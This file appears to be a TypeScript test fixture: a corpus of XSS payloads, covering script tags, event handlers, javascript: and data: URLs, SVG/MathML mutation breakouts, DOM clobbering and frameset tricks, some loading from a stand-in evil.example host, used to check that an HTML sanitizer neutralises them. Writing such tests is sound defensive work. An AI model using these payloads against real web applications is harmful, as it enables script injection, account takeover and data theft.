/**
 * Hostile comment bodies, one entry per trick, grouped by XSS family. Shared by the import,
 * review-pane and export tests: every payload, if it ran, would do something observable (an
 * alert, a console line, a request, or setting window.__pwned), so a browser test can prove that
 * nothing ran. Each entry also carries a harmless word (`keep`) that sanitizing must not lose.
 */
export interface HostileSample {
  family: 'script' | 'event-handler' | 'javascript-url' | 'data-url' | 'svg' | 'mathml' | 'noscript' | 'template' | 'mutation' | 'clobbering' | 'frameset' | 'other';
  name: string;
  html: string;
  /** Plain text that belongs to the comment and should survive sanitizing (empty when none). */
  keep: string;
}

const P = 'window.__pwned=1;alert(1)';

export const HOSTILE_CORPUS: HostileSample[] = [
  // <script> in its many spellings
  { family: 'script', name: 'plain script', html: `<p>Hello</p><script>${P}</script>`, keep: 'Hello' },
  { family: 'script', name: 'upper-case external script', html: `<SCRIPT SRC=http://evil.example/x.js></SCRIPT><p>Upper</p>`, keep: 'Upper' },
  { family: 'script', name: 'split script tag', html: `<scr<script>ipt>${P}</script><p>Split</p>`, keep: 'Split' },
  { family: 'script', name: 'script in attribute-less p', html: `<p>Inline<script type="module">${P}</script></p>`, keep: 'Inline' },
  // event handlers
  { family: 'event-handler', name: 'img onerror', html: `<p>Pic</p><img src=x onerror="${P}">`, keep: 'Pic' },
  { family: 'event-handler', name: 'body onload', html: `<body onload="${P}"><p>Body</p></body>`, keep: 'Body' },
  { family: 'event-handler', name: 'onmouseover on a div', html: `<div onmouseover="${P}">Hover me</div>`, keep: 'Hover me' },
  { family: 'event-handler', name: 'onclick on a link', html: `<a href="https://example.org/" onclick="${P}">Click</a>`, keep: 'Click' },
  { family: 'event-handler', name: 'details ontoggle', html: `<details open ontoggle="${P}"><summary>Toggle</summary></details>`, keep: 'Toggle' },
  { family: 'event-handler', name: 'autofocus onfocus', html: `<input autofocus onfocus="${P}"><p>Focus</p>`, keep: 'Focus' },
  { family: 'event-handler', name: 'video source onerror', html: `<video><source onerror="${P}"></video><p>Video</p>`, keep: 'Video' },
  { family: 'event-handler', name: 'unquoted handler with slash', html: `<img/src/onerror=${P.replace(/;/g, ',')}><p>Slash</p>`, keep: 'Slash' },
  // javascript: URLs
  { family: 'javascript-url', name: 'href javascript:', html: `<a href="javascript:${P}">Link</a>`, keep: 'Link' },
  { family: 'javascript-url', name: 'mixed case', html: `<a href="JaVaScRiPt:${P}">Case</a>`, keep: 'Case' },
  { family: 'javascript-url', name: 'entity-encoded scheme', html: `<a href="&#106;&#97;vascript:${P}">Entity</a>`, keep: 'Entity' },
  { family: 'javascript-url', name: 'tab inside the scheme', html: `<a href="java&#9;script:${P}">Tab</a>`, keep: 'Tab' },
  { family: 'javascript-url', name: 'leading space and newline', html: `<a href=" \njavascript:${P}">Space</a>`, keep: 'Space' },
  { family: 'javascript-url', name: 'iframe src', html: `<iframe src="javascript:${P}"></iframe><p>Frame</p>`, keep: 'Frame' },
  { family: 'javascript-url', name: 'form action', html: `<form action="javascript:${P}"><button>Go</button></form>`, keep: 'Go' },
  { family: 'javascript-url', name: 'button formaction', html: `<button formaction="javascript:${P}">Press</button>`, keep: 'Press' },
  { family: 'javascript-url', name: 'vbscript', html: `<a href="vbscript:msgbox(1)">VB</a>`, keep: 'VB' },
  // data: URLs
  { family: 'data-url', name: 'data:text/html link', html: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data</a>`, keep: 'Data' },
  { family: 'data-url', name: 'data: iframe', html: `<iframe src="data:text/html,<script>${P}</script>"></iframe><p>DataFrame</p>`, keep: 'DataFrame' },
  { family: 'data-url', name: 'object data', html: `<object data="data:text/html,<script>${P}</script>"></object><p>Object</p>`, keep: 'Object' },
  { family: 'data-url', name: 'embed src', html: `<embed src="data:image/svg+xml,<svg onload='${P}'>"><p>Embed</p>`, keep: 'Embed' },
  // SVG
  { family: 'svg', name: 'svg onload', html: `<svg onload="${P}"></svg><p>Svg</p>`, keep: 'Svg' },
  { family: 'svg', name: 'script inside svg', html: `<svg><script>${P}</script></svg><p>SvgScript</p>`, keep: 'SvgScript' },
  { family: 'svg', name: 'svg xlink:href', html: `<svg><a xlink:href="javascript:${P}"><text x="0" y="10">SvgLink</text></a></svg>`, keep: '' },
  { family: 'svg', name: 'svg animate onbegin', html: `<svg><animate onbegin="${P}" attributeName="x" dur="1s"></animate></svg><p>Animate</p>`, keep: 'Animate' },
  { family: 'svg', name: 'svg set href', html: `<svg><a><set attributeName="href" to="javascript:${P}"/><text y="10">SetHref</text></a></svg>`, keep: '' },
  { family: 'svg', name: 'foreignObject iframe', html: `<svg><foreignObject><iframe srcdoc="<script>${P}</script>"></iframe></foreignObject></svg><p>Foreign</p>`, keep: 'Foreign' },
  // MathML
  { family: 'mathml', name: 'math href', html: `<math href="javascript:${P}"><mi>MathHref</mi></math>`, keep: '' },
  { family: 'mathml', name: 'maction xlink', html: `<math><maction actiontype="statusline" xlink:href="javascript:${P}">Maction</maction></math>`, keep: '' },
  { family: 'mathml', name: 'mglyph style mXSS', html: `<math><mtext><table><mglyph><style><img src=x onerror="${P}">`, keep: '' },
  // <noscript> and <template> mutations
  // A comment is parsed as part of a page body with scripting off: the </noscript> inside the open
  // <p> is ignored there, so everything after it is inside the <noscript> and goes with it.
  { family: 'noscript', name: 'noscript title breakout', html: `<noscript><p title="</noscript><img src=x onerror=${P.replace(/;/g, ',')}>"></noscript><p>NoScript</p>`, keep: '' },
  { family: 'noscript', name: 'noscript style breakout', html: `<noscript><style></noscript><img src=x onerror="${P}"></style></noscript>`, keep: '' },
  { family: 'template', name: 'template img', html: `<template><img src=x onerror="${P}"></template><p>Template</p>`, keep: 'Template' },
  { family: 'template', name: 'template script', html: `<template><script>${P}</script></template><p>TemplateScript</p>`, keep: 'TemplateScript' },
  { family: 'template', name: 'shadow root template', html: `<div><template shadowrootmode="open"><img src=x onerror="${P}"></template>Shadow</div>`, keep: 'Shadow' },
  // mutation XSS through namespace confusion
  { family: 'mutation', name: 'svg p style', html: `<svg></p><style><a id="</style><img src=1 onerror=${P.replace(/;/g, ',')}>">`, keep: '' },
  { family: 'mutation', name: 'math mi style', html: `<math><mi><style><img src=x onerror="${P}"></style></mi></math>`, keep: '' },
  { family: 'mutation', name: 'nested form mglyph', html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${P}">`, keep: '' },
  { family: 'mutation', name: 'comment breakout', html: `<!--><img src=x onerror="${P}">--><p>Comment</p>`, keep: 'Comment' },
  { family: 'mutation', name: 'cdata in html', html: `<![CDATA[><img src=x onerror="${P}">]]><p>Cdata</p>`, keep: 'Cdata' },
  // DOM clobbering via id/name
  { family: 'clobbering', name: 'name=cookie', html: `<img name="cookie"><p>Cookie</p>`, keep: 'Cookie' },
  { family: 'clobbering', name: 'form id=workbench', html: `<form id="workbench"><input name="invoke"></form><p>Bridge</p>`, keep: 'Bridge' },
  { family: 'clobbering', name: 'a id=location', html: `<a id="location" href="https://evil.example/">Location</a>`, keep: 'Location' },
  { family: 'clobbering', name: 'id=getElementById', html: `<img id="getElementById"><p>GetById</p>`, keep: 'GetById' },
  { family: 'clobbering', name: 'form name=body', html: `<form name="body"><p>FormBody</p></form>`, keep: 'FormBody' },
  { family: 'clobbering', name: 'anchor pair clobbering config', html: `<a id="defaultConfig"></a><a id="defaultConfig" name="url" href="javascript:${P}">Pair</a>`, keep: 'Pair' },
  // <frameset> and the elements that make a document of a fragment: as a whole document, a leading
  // <frameset> replaces the body; in the page body a comment lives in they are ignored or dropped.
  { family: 'frameset', name: 'frameset with a javascript: frame', html: `<FRAMESET><FRAME SRC="javascript:${P}"></FRAMESET><p>Frameset</p>`, keep: 'Frameset' },
  { family: 'frameset', name: 'frameset onload', html: `<frameset onload=alert(31)><p>FramesetOnload</p>`, keep: 'FramesetOnload' },
  { family: 'frameset', name: 'frameset alone', html: `<frameset onload="${P}">`, keep: '' },
  { family: 'frameset', name: 'lone frame', html: `<frame src="javascript:${P}"><p>LoneFrame</p>`, keep: 'LoneFrame' },
  { family: 'frameset', name: 'html and head tags', html: `<html onmouseover="${P}"><head><script>${P}</script></head><p>HtmlHead</p>`, keep: 'HtmlHead' },
  { family: 'frameset', name: 'body after frameset', html: `<frameset></frameset><body onload="${P}">AfterFrameset</body>`, keep: 'AfterFrameset' },
  { family: 'frameset', name: 'noframes breakout', html: `<noframes><p title="</noframes><img src=x onerror=${P.replace(/;/g, ',')}>"></noframes><p>NoFrames</p>`, keep: 'NoFrames' },
  { family: 'frameset', name: 'xmp breakout', html: `<xmp><p title="</xmp><img src=x onerror=${P.replace(/;/g, ',')}>"></xmp><p>Xmp</p>`, keep: 'Xmp' },
  { family: 'frameset', name: 'plaintext swallows the rest', html: `<p>Before</p><plaintext><img src=x onerror="${P}"></plaintext><script>${P}</script>`, keep: 'Before' },
  { family: 'frameset', name: 'frameset in a template', html: `<template><frameset><frame src="javascript:${P}"></frameset></template><p>TemplateFrame</p>`, keep: 'TemplateFrame' },
  { family: 'frameset', name: 'frameset in svg', html: `<svg><frameset onload="${P}"><frame src="javascript:${P}"/></frameset></svg><p>SvgFrameset</p>`, keep: 'SvgFrameset' },
  { family: 'frameset', name: 'frameset in math', html: `<math><mtext><frameset onload="${P}"></frameset></mtext></math><p>MathFrameset</p>`, keep: 'MathFrameset' },
  // the rest of the usual list
  { family: 'other', name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=javascript:${P}"><p>Meta</p>`, keep: 'Meta' },
  { family: 'other', name: 'base href', html: `<base href="javascript:${P}//"><a href="/x">Base</a>`, keep: 'Base' },
  { family: 'other', name: 'link import', html: `<link rel="stylesheet" href="http://evil.example/x.css"><p>LinkTag</p>`, keep: 'LinkTag' },
  { family: 'other', name: 'style import and url', html: `<style>@import 'http://evil.example/x.css'; body{background:url(javascript:${P})}</style><p>StyleTag</p>`, keep: 'StyleTag' },
  { family: 'other', name: 'style attribute', html: `<p style="background:url(http://evil.example/t.png)">StyleAttr</p>`, keep: 'StyleAttr' },
  { family: 'other', name: 'iframe srcdoc', html: `<iframe srcdoc="<script>${P}</script>"></iframe><p>Srcdoc</p>`, keep: 'Srcdoc' },
  { family: 'other', name: 'remote tracking image', html: `<img src="http://evil.example/track.png"><p>Tracker</p>`, keep: 'Tracker' },
  { family: 'other', name: 'target blank opener', html: `<a href="https://example.org/" target="_blank">Opener</a>`, keep: 'Opener' },
];

/** Words that must never appear as live markup after sanitizing (a quick pre-check; active-content.ts is the real one). */
export const PAYLOAD_MARKER = '__pwned';
